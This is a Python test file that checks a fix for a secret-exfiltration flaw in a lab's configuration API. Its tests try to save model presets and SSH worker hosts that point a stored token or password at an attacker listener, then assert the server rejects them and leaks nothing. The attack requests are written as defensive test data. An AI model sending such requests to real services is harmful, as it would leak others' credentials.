"""Issue 11 finding 3: any stored secret could be sent to any URL.

The attacker (anyone who reaches the configuration API: a script with the token, or a page
that rides the browser's session) saves a model preset that points at their own server and
names a secret it does not own, then presses "test connection": the lab sent the secret as
the bearer key. A preset may use only the key stored with it, and moving it elsewhere (a new
base URL or provider) drops that key. Worker hosts follow the same rule for SSH passwords.
"""

from __future__ import annotations

import secrets
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest

from justkernel.settings import models
from justkernel.settings.secrets import SecretsStore
from tests.security.web_lab import SignedIn, listener, signed_in_lab
from tests.support.labs import open_folder
from tests.support.openai_server import OpenAIServer, Reply

JUDGE_TOKEN = f"judge-{secrets.token_hex(16)}"
QWEN_KEY = f"sk-qwen-{secrets.token_hex(16)}"
SSH_PASSWORD = f"pw-{secrets.token_hex(12)}"


@pytest.fixture(scope="module")
def lab() -> Iterator[SignedIn]:
    folder = open_folder("jk-sec-presets-")
    store = SecretsStore(folder / "config")
    store.set("judge_official_token", JUDGE_TOKEN)
    store.set("qwen_api_key", QWEN_KEY)
    store.set("ssh_npu1_password", SSH_PASSWORD)
    with signed_in_lab(folder) as running:
        yield running


def test_a_preset_cannot_name_someone_elses_secret(lab: SignedIn) -> None:
    with listener() as attacker, lab.client() as api:
        for provider in ("openai_compatible", "openai"):
            saved = api.post(
                "/api/config/models",
                json={
                    "name": f"leak-{provider}",
                    "provider": provider,
                    "model": "m",
                    "base_url": attacker.base_url,
                    "api_key_secret": "judge_official_token",
                },
            )
            if saved.status_code == 200:
                api.post(f"/api/config/models/leak-{provider}/test")
            assert saved.status_code == 400, saved.text
            assert "api_key_secret" in saved.json()["errors"]
        assert not attacker.saw(JUDGE_TOKEN)


def test_moving_a_shipped_preset_does_not_take_its_provider_key_along(lab: SignedIn) -> None:
    """`qwen` ships with `qwen_api_key`; a local `qwen` aimed at the attacker gets no key."""
    with listener() as attacker, lab.client() as api:
        moved = api.post(
            "/api/config/models",
            json={"name": "qwen", "provider": "qwen", "model": "x", "base_url": attacker.base_url},
        )
        if moved.status_code == 200:
            api.post("/api/config/models/qwen/test")
        assert moved.status_code == 400, moved.text
        assert "api_key" in moved.json()["errors"]
        assert not attacker.saw(QWEN_KEY)


def test_changing_the_base_url_drops_the_stored_key(lab: SignedIn) -> None:
    key = f"sk-mine-{secrets.token_hex(16)}"
    with OpenAIServer([Reply(text="ok")], api_key=key) as real, lab.client() as api:
        form = {"name": "mine", "provider": "openai_compatible", "model": "scripted-model"}
        saved = api.post(
            "/api/config/models", json={**form, "base_url": real.base_url, "api_key": key}
        )
        assert saved.status_code == 200, saved.text
        assert saved.json()["model"]["has_key"] is True
        assert api.post("/api/config/models/mine/test").json()["ok"] is True
        assert real.requests[-1].auth_ok is True
        # the same preset, other fields edited, same URL: the key stays
        kept = api.post(
            "/api/config/models",
            json={**form, "base_url": real.base_url, "reasoning_effort": "low"},
        )
        assert kept.status_code == 200 and kept.json()["model"]["has_key"] is True
        with listener() as attacker:
            moved = api.post("/api/config/models", json={**form, "base_url": attacker.base_url})
            assert moved.status_code == 200, moved.text
            assert moved.json()["model"]["has_key"] is False
            api.post("/api/config/models/mine/test")
            assert attacker.requests, "the test connection never reached the new URL"
            assert not attacker.saw(key)
    assert SecretsStore(lab.folder / "config").get(models.preset_secret_name("mine")) is None


def test_shipped_presets_use_only_their_provider_key_and_local_files_cannot_point_elsewhere(
    tmp_path: Path,
) -> None:
    shipped = models.load_model_presets()
    assert {p.api_key_secret for p in shipped.values()} == {
        None,
        "openai_api_key",
        "deepseek_api_key",
        "qwen_api_key",
    }
    for preset in shipped.values():
        assert preset.api_key_secret in (None, f"{preset.provider}_api_key")
    # a models.local.toml written before the fix, naming the judge token
    local = tmp_path / "models.local.toml"
    local.write_text(
        '[models.old]\nprovider = "openai_compatible"\nmodel = "m"\n'
        'base_url = "http://127.0.0.1:9/v1"\napi_key_secret = "judge_official_token"\n'
    )
    old = models.load_model_presets(local)["old"]
    assert old.api_key_secret == models.preset_secret_name("old")
    assert tomllib.loads(local.read_text())["models"]["old"]  # the file itself is left as is


def test_a_worker_host_cannot_name_a_secret_or_carry_its_password_to_a_new_address(
    lab: SignedIn,
) -> None:
    hosts = lab.folder / "hosts.toml"
    with lab.client() as api:
        named = api.post(
            "/api/config/workers/hosts",
            json={
                "name": "evil",
                "address": "127.0.0.1",
                "user": "x",
                "password_secret": "judge_official_token",
            },
        )
        assert named.status_code == 400, named.text
        assert "password_secret" in named.json()["errors"]
        saved = api.post(
            "/api/config/workers/hosts",
            json={"name": "npu1", "address": "10.0.0.5", "user": "lab", "password": SSH_PASSWORD},
        )
        assert saved.status_code == 200, saved.text
        moved = api.post(
            "/api/config/workers/hosts",
            json={"name": "npu1", "address": "127.0.0.1", "port": 2222, "user": "lab"},
        )
        assert moved.status_code == 400, moved.text
        assert "password" in moved.json()["errors"]
        assert 'address = "10.0.0.5"' in hosts.read_text()
        assert api.delete("/api/config/workers/hosts/npu1").status_code == 200
